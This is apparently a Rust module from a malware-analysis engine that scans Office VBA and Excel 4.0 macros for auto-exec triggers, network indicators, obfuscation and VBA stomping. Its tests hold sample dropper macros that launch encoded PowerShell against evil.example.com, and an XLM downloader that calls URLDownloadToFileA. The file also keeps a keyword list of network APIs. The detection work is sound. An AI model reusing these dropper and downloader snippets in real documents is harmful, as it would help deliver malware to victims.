use std::collections::BTreeSet;

use sha2::{Digest, Sha256};

use sis_ole_core::config::EngineConfig;
use sis_ole_core::context::SubmissionContext;
use sis_ole_core::extract::{ArtifactStore, ExtractionSink};
use sis_ole_core::heuristic::{Heuristic, HeuristicKind};
use sis_ole_core::model::{TagBag, TagKind};
use sis_ole_core::safelist::Safelist;
use sis_ole_core::wordchains::WordChains;

use crate::deobfuscate::deobfuscate;
use crate::links::parse_uri;
use crate::randomness::flag_macro;
use crate::stomping::{
    capture_passwords, detect_stomping, MacroSuspicionScanner, StompingReport, SuspicionReport,
    AUTOEXEC_RE, EXECUTE_RE, WRITE_RE,
};

// Network-capable APIs the capability regexes do not cover.
const ADDITIONAL_SUSPICIOUS_KEYWORDS: &[&str] =
    &["WinHttp", "WinHttpRequest", "WinInet", "Lib \"kernel32\" Alias"];

/// Macro source and compiled artifacts for one document, as handed over by
/// the parser.
#[derive(Debug, Clone, Default)]
pub struct MacroBatch {
    pub macros: Vec<String>,
    pub pcode: Vec<String>,
    /// Excel 4.0 sheet macros, swept separately from the VBA pipeline.
    pub xlm_macros: Vec<String>,
    /// The parser's own source/compiled mismatch signal.
    pub structural_stomping: bool,
}

/// Everything the macro pass found for one document.
#[derive(Debug, Clone)]
pub struct MacroBatchReport {
    /// Set when any macro's identifiers look machine-generated.
    pub obfuscation: Option<Heuristic>,
    /// Counting heuristic over non-safelisted network indicators.
    pub network: Heuristic,
    /// Counting heuristic over suspicious keywords, one signature each.
    pub suspicious: Heuristic,
    pub stomping_heuristic: Option<Heuristic>,
    pub tags: TagBag,
    pub autoexec_keywords: BTreeSet<String>,
    pub suspicious_keywords: BTreeSet<String>,
    /// Display lines for the network indicators found in macro text.
    pub network_indicators: BTreeSet<String>,
    pub stomping: StompingReport,
    /// Capability scan over the combined Excel 4.0 macro dump.
    pub xlm: SuspicionReport,
}

impl Default for MacroBatchReport {
    fn default() -> MacroBatchReport {
        MacroBatchReport {
            obfuscation: None,
            network: Heuristic::new(HeuristicKind::NetworkIoc),
            suspicious: Heuristic::new(HeuristicKind::SuspiciousStrings),
            stomping_heuristic: None,
            tags: TagBag::new(),
            autoexec_keywords: BTreeSet::new(),
            suspicious_keywords: BTreeSet::new(),
            network_indicators: BTreeSet::new(),
            stomping: StompingReport::default(),
            xlm: SuspicionReport::default(),
        }
    }
}

/// Runs the whole macro pipeline over one batch: deobfuscation, randomness
/// scoring, keyword and network scans, combined-dump extraction, password
/// harvesting and stomping comparison.
pub struct MacroAnalyzer<'a> {
    safelist: &'a Safelist,
    chains: &'a WordChains,
    config: &'a EngineConfig,
    scanner: &'a dyn MacroSuspicionScanner,
}

impl<'a> MacroAnalyzer<'a> {
    pub fn new(
        safelist: &'a Safelist,
        chains: &'a WordChains,
        config: &'a EngineConfig,
        scanner: &'a dyn MacroSuspicionScanner,
    ) -> MacroAnalyzer<'a> {
        MacroAnalyzer { safelist, chains, config, scanner }
    }

    pub fn analyze(
        &self,
        batch: &MacroBatch,
        submission_sha256: &str,
        context: &mut SubmissionContext,
        sink: &mut ExtractionSink,
        store: &mut dyn ArtifactStore,
    ) -> MacroBatchReport {
        let mut report = MacroBatchReport::default();
        if batch.macros.is_empty() && batch.pcode.is_empty() && batch.xlm_macros.is_empty() {
            return report;
        }
        if !batch.macros.is_empty() {
            report.tags.insert(TagKind::TechniqueMacro, "Contains VBA Macro(s)");
        }
        if !batch.xlm_macros.is_empty() {
            report.tags.insert(TagKind::TechniqueMacro, "Contains XLM Macro(s)");
        }

        for vba_code in &batch.macros {
            let analyzed = deobfuscate(vba_code);
            let flagged = flag_macro(
                &analyzed,
                self.chains,
                self.config.macro_score_max_file_size,
                self.config.macro_score_min_alert,
            );
            let interesting = self.scan_macro(&analyzed, &mut report);
            if interesting || flagged {
                let sha256 = format!("{:x}", Sha256::digest(vba_code.as_bytes()));
                report.tags.insert(TagKind::FileMacroSha256, sha256);
                if flagged && report.obfuscation.is_none() {
                    report.obfuscation = Some(Heuristic::new(HeuristicKind::MacroObfuscation));
                }
                if analyzed != *vba_code {
                    report
                        .tags
                        .insert(TagKind::TechniqueObfuscation, "VBA Macro String Functions");
                }
            }
        }

        for keyword in report.autoexec_keywords.iter().chain(&report.suspicious_keywords) {
            report.suspicious.add_signature(keyword.replace(' ', "_"));
            report.suspicious.increment_frequency(1);
        }

        let vba_scan = self.scan_combined(
            &batch.macros,
            "_all_vba.data",
            "vba_code",
            submission_sha256,
            context,
            sink,
            store,
        );
        let pcode_scan = self.scan_combined(
            &batch.pcode,
            "_all_pcode.data",
            "pcode",
            submission_sha256,
            context,
            sink,
            store,
        );
        let xlm_scan = self.scan_combined(
            &batch.xlm_macros,
            "_all_xlm.data",
            "xlm_code",
            submission_sha256,
            context,
            sink,
            store,
        );
        if xlm_scan.suspicious {
            let keywords: BTreeSet<String> =
                xlm_scan.matches.iter().map(|m| m.to_lowercase()).collect();
            for keyword in keywords {
                report.suspicious.add_signature(keyword.replace(' ', "_"));
                report.suspicious.increment_frequency(1);
            }
        }
        report.xlm = xlm_scan;
        report.stomping = detect_stomping(batch.structural_stomping, &vba_scan, &pcode_scan);
        if report.stomping.stomped {
            let mut heuristic = Heuristic::new(HeuristicKind::VbaStomping);
            heuristic.increment_frequency(1);
            if !report.stomping.pcode_only_matches.is_empty() {
                heuristic.add_signature("suspicious_vba_stomped");
            }
            report.stomping_heuristic = Some(heuristic);
        }
        report
    }

    /// Keyword and network sweep over one deobfuscated macro. Returns whether
    /// anything reportable turned up.
    fn scan_macro(&self, text: &str, report: &mut MacroBatchReport) -> bool {
        let mut found_keywords = false;
        for hit in AUTOEXEC_RE.find_iter(text) {
            report.autoexec_keywords.insert(hit.as_str().to_lowercase());
            found_keywords = true;
        }
        for hit in WRITE_RE.find_iter(text).chain(EXECUTE_RE.find_iter(text)) {
            report.suspicious_keywords.insert(hit.as_str().to_lowercase());
            found_keywords = true;
        }
        let lowered = text.to_lowercase();
        for keyword in ADDITIONAL_SUSPICIOUS_KEYWORDS {
            if lowered.contains(&keyword.to_lowercase()) {
                report.suspicious_keywords.insert(keyword.to_lowercase());
                found_keywords = true;
            }
        }

        let before = report.network.frequency();
        for (kind, value) in crate::patterns::find_iocs(text.as_bytes()) {
            match kind {
                TagKind::NetworkUri => {
                    let Some(parsed) = parse_uri(&value) else { continue };
                    report.network_indicators.insert(parsed.url.clone());
                    // Any parseable URL counts, even when the host itself is
                    // reserved or unclassifiable.
                    let mut safelisted = self.is_safelisted(TagKind::NetworkUri, &parsed.url);
                    if let Some((host_kind, hostname)) = parsed.host {
                        safelisted =
                            safelisted || self.is_safelisted(host_kind.tag_kind(), &hostname);
                        report.tags.insert(host_kind.tag_kind(), hostname);
                    }
                    if !safelisted {
                        report.network.increment_frequency(1);
                    }
                    report.tags.insert(TagKind::NetworkUri, parsed.url);
                }
                TagKind::NetworkIp => {
                    // Already validated as non-reserved by the pattern pass.
                    if !self.is_safelisted(TagKind::NetworkIp, &value) {
                        report.network.increment_frequency(1);
                    }
                    report.network_indicators.insert(value.clone());
                    report.tags.insert(TagKind::NetworkIp, value);
                }
                _ => {}
            }
        }
        found_keywords || report.network.frequency() > before
    }

    fn is_safelisted(&self, kind: TagKind, value: &str) -> bool {
        // Deep scan does not widen macro network reporting.
        self.safelist.is_safelisted(kind, value, false)
    }

    /// Extracts the combined dump (unless it is the submission itself),
    /// harvests passwords from it, and scans it for capability patterns.
    #[allow(clippy::too_many_arguments)]
    fn scan_combined(
        &self,
        parts: &[String],
        suffix: &str,
        description: &str,
        submission_sha256: &str,
        context: &mut SubmissionContext,
        sink: &mut ExtractionSink,
        store: &mut dyn ArtifactStore,
    ) -> crate::stomping::SuspicionReport {
        let combined = parts.join("\n");
        if combined.is_empty() {
            return crate::stomping::SuspicionReport::default();
        }
        let sha256 = format!("{:x}", Sha256::digest(combined.as_bytes()));
        if sha256 != submission_sha256 {
            sink.offer(store, combined.as_bytes(), suffix, description);
        }
        capture_passwords(&combined, context);
        self.scanner.scan(&combined)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stomping::RaptorScanner;
    use anyhow::Result;
    use sis_ole_core::extract::StoreOutcome;
    use sis_ole_core::heuristic::Verdict;

    #[derive(Default)]
    struct MemoryStore {
        files: Vec<(String, Vec<u8>)>,
    }

    impl ArtifactStore for MemoryStore {
        fn persist(&mut self, name: &str, payload: &[u8], _desc: &str) -> Result<StoreOutcome> {
            self.files.push((name.to_string(), payload.to_vec()));
            Ok(StoreOutcome::Stored)
        }
    }

    const DROPPER: &str = r#"Sub AutoOpen()
    Set obj = CreateObject("WScript.Shell")
    obj.Run "powershell -enc aQBlAHgA http://evil.example.com/stage2"
End Sub"#;

    fn analyze(batch: &MacroBatch) -> (MacroBatchReport, MemoryStore, SubmissionContext) {
        let safelist = Safelist::builtin();
        let chains = WordChains::from_words(["download", "execute", "create", "object"]);
        let config = EngineConfig::default();
        let analyzer = MacroAnalyzer::new(&safelist, &chains, &config, &RaptorScanner);
        let mut context = SubmissionContext::new(false);
        let mut sink = ExtractionSink::new();
        let mut store = MemoryStore::default();
        let report =
            analyzer.analyze(batch, "unrelated-hash", &mut context, &mut sink, &mut store);
        (report, store, context)
    }

    #[test]
    fn empty_batch_is_inert() {
        let (report, store, _) = analyze(&MacroBatch::default());
        assert!(report.tags.is_empty());
        assert!(!report.network.is_triggered());
        assert!(!report.suspicious.is_triggered());
        assert!(store.files.is_empty());
    }

    #[test]
    fn dropper_macro_reports_keywords_network_and_hash() {
        let batch = MacroBatch { macros: vec![DROPPER.to_string()], ..MacroBatch::default() };
        let (report, store, _) = analyze(&batch);
        assert!(report.autoexec_keywords.contains("autoopen"));
        assert!(report.suspicious_keywords.contains("createobject"));
        assert!(report.suspicious.is_triggered());
        assert!(report.network.is_triggered());
        assert!(report.tags.contains(TagKind::NetworkUri, "http://evil.example.com/stage2"));
        assert!(report.tags.contains(TagKind::NetworkDomain, "evil.example.com"));
        assert_eq!(report.tags.get(TagKind::FileMacroSha256).count(), 1);
        assert!(report.tags.contains(TagKind::TechniqueMacro, "Contains VBA Macro(s)"));
        // The combined dump is extracted for downstream analysis.
        assert!(store.files.iter().any(|(name, _)| name.ends_with("_all_vba.data")));
    }

    #[test]
    fn deobfuscated_macro_is_tagged_as_string_obfuscation() {
        let macro_text = format!(
            "Sub AutoOpen()\n  x = {}\n  Shell x\nEnd Sub",
            "Chr(104) & Chr(116) & Chr(116) & Chr(112)",
        );
        let batch = MacroBatch { macros: vec![macro_text], ..MacroBatch::default() };
        let (report, _, _) = analyze(&batch);
        assert!(report
            .tags
            .contains(TagKind::TechniqueObfuscation, "VBA Macro String Functions"));
    }

    #[test]
    fn stomped_pcode_raises_the_stomping_heuristic() {
        let batch = MacroBatch {
            macros: vec!["Sub Harmless()\n  x = 1\nEnd Sub".to_string()],
            pcode: vec![DROPPER.to_string()],
            structural_stomping: false,
            ..MacroBatch::default()
        };
        let (report, _, _) = analyze(&batch);
        assert!(report.stomping.stomped);
        let heuristic = report.stomping_heuristic.unwrap();
        assert!(heuristic.has_signature("suspicious_vba_stomped"));
        assert_eq!(heuristic.verdict(), Verdict::Suspicious);
    }

    #[test]
    fn passwords_flow_into_the_context() {
        let batch = MacroBatch {
            macros: vec!["ActiveDocument.SaveAs PasswordDocument:=\"opensesame\"".to_string()],
            ..MacroBatch::default()
        };
        let (_, _, context) = analyze(&batch);
        assert_eq!(context.passwords(), ["opensesame"]);
    }

    #[test]
    fn reserved_host_uris_still_count_and_tag() {
        let batch = MacroBatch {
            macros: vec!["Sub AutoOpen()\n  Shell \"http://127.0.0.1/stage2.ps1\"\nEnd Sub"
                .to_string()],
            ..MacroBatch::default()
        };
        let (report, _, _) = analyze(&batch);
        assert!(report.tags.contains(TagKind::NetworkUri, "http://127.0.0.1/stage2.ps1"));
        // The loopback host itself is not a reportable indicator.
        assert!(!report.tags.contains(TagKind::NetworkIp, "127.0.0.1"));
        assert!(report.network.is_triggered());
    }

    #[test]
    fn xlm_macros_are_swept_and_extracted() {
        let xlm = concat!(
            "Auto_Open\n",
            "REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"dl\",,1,9)\n",
            "dl(0,\"http://203.0.113.9/x.dat\",\"C:\\x.dat\",0,0)\n",
            "HALT()",
        );
        let batch = MacroBatch { xlm_macros: vec![xlm.to_string()], ..MacroBatch::default() };
        let (report, store, _) = analyze(&batch);
        assert!(report.tags.contains(TagKind::TechniqueMacro, "Contains XLM Macro(s)"));
        assert!(report.xlm.suspicious);
        assert!(report.xlm.matches.iter().any(|m| m == "Auto_Open"));
        assert!(report.suspicious.is_triggered());
        assert!(report.suspicious.has_signature("urldownloadtofilea"));
        assert!(store.files.iter().any(|(name, _)| name.ends_with("_all_xlm.data")));
    }

    #[test]
    fn safelisted_hosts_do_not_count_toward_the_network_heuristic() {
        let batch = MacroBatch {
            macros: vec!["Sub AutoOpen()\n  Shell \"http://res.microsoft.com/x\"\nEnd Sub"
                .to_string()],
            ..MacroBatch::default()
        };
        let (report, _, _) = analyze(&batch);
        assert!(!report.network.is_triggered());
        assert!(report.tags.contains(TagKind::NetworkUri, "http://res.microsoft.com/x"));
    }
}
